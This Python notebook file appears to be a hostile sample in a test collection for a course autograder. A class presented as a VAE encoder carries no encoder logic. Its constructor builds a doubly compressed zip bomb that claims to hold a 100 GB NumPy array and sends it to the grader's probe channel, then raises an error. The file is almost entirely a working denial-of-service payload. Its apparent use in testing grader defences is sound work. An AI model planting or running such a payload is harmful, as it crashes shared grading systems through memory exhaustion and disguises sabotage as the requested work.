# ---
# jupyter:
#   corpus:
#     title: a reply that unpacks to 100 GB
#     attempts: answers a probe with a small archive of zeros that grows in the grader's memory
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [display]
#     reference: false
# ---

# %% grade_id="vae_encoder"
import base64
import io
import json
import struct
import zipfile
import zlib


def bomb():
    """A few kilobytes that claim to be an array of 100 GB, compressed twice."""
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (12500000000,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file, file.open("arr_0.npy", "w") as array:
        array.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)
        for _ in range(400):
            array.write(bytes(2**23))
    return base64.b64encode(zlib.compress(archive.getvalue(), 9)).decode()


class VEncoder(nn.Module):
    def __init__(self, n_input_features, n_hidden_neurons, n_latent_features):
        super().__init__()
        reply = {"tree": {"parts": 2, "loc": {"__array__": 0}, "scale": {"__array__": 0}}, "npz": bomb()}
        display({"application/x-coursekit-probe": json.dumps(reply)}, raw=True)
        raise ValueError
